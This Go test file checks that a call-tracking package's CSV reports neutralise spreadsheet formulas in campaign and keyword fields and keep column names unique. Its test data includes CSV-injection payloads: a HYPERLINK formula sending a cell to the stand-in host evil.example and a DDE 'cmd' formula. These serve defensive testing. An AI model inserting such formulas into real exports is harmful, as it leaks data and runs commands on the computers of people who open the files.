package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/attriqs/calltrack/classify"
	"github.com/attriqs/calltrack/journey"
	"github.com/attriqs/calltrack/journey/attribution"
)

// Campaign names and keywords come from visitors' URLs (utm_campaign,
// utm_term): a CSV a spreadsheet opens must not run them as formulas.
var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1"}

func TestWriteSourcesCSVQuotesFormulas(t *testing.T) {
	var rows []SourceRow
	for _, f := range formulas {
		rows = append(rows, SourceRow{Key: f, Currency: "USD"})
	}
	rows = append(rows, SourceRow{Key: "-5", Currency: "USD"}) // a number stays a number
	var b bytes.Buffer
	require.NoError(t, WriteSourcesCSV(&b, DimKeyword, rows))
	recs, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	for i, f := range formulas {
		require.Equal(t, "'"+f, recs[i+1][0])
	}
	require.Equal(t, "-5", recs[len(recs)-1][0])
}

func TestWriteLongQuotesFormulas(t *testing.T) {
	var js []attribution.Journey
	for i, f := range formulas {
		tp := callTP("F"+string(rune('0'+i)), classify.Source{Channel: classify.ChannelPaidSearch, Campaign: f}, at(0, 10), nil)
		js = append(js, attribution.Journey{ID: tp.ID, Touchpoints: []journey.Touchpoint{tp}})
	}
	s, err := BuildSeries(js, nil, SeriesOptions{From: day(0), To: day(1), ByCampaign: true, Currency: "USD"})
	require.NoError(t, err)
	var b bytes.Buffer
	require.NoError(t, s.WriteLong(&b))
	recs, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			require.False(t, cell != "" && strings.ContainsRune("=+@\t-", rune(cell[0])) && !isNumber(cell), "%q", rec)
		}
	}
}

func isNumber(s string) bool {
	return strings.Trim(s, "-0123456789.") == "" && strings.Count(s, "-") <= 1
}

func TestWriteWideColumnNamesAreUnique(t *testing.T) {
	var js []attribution.Journey
	for i, c := range []string{"Spring Sale", "spring-sale", "spring_sale"} {
		tp := callTP("U"+string(rune('0'+i)), classify.Source{Channel: classify.ChannelPaidSearch, Campaign: c}, at(0, 10), nil)
		js = append(js, attribution.Journey{ID: tp.ID, Touchpoints: []journey.Touchpoint{tp}})
	}
	s, err := BuildSeries(js, nil, SeriesOptions{From: day(0), To: day(1), ByCampaign: true, Currency: "USD"})
	require.NoError(t, err)
	var b bytes.Buffer
	require.NoError(t, s.WriteWide(&b))
	header := strings.Split(strings.SplitN(b.String(), "\n", 2)[0], ",")
	sorted := slices.Clone(header)
	slices.Sort(sorted)
	require.Equal(t, len(sorted), len(slices.Compact(sorted)), "duplicate columns: %v", header)
}
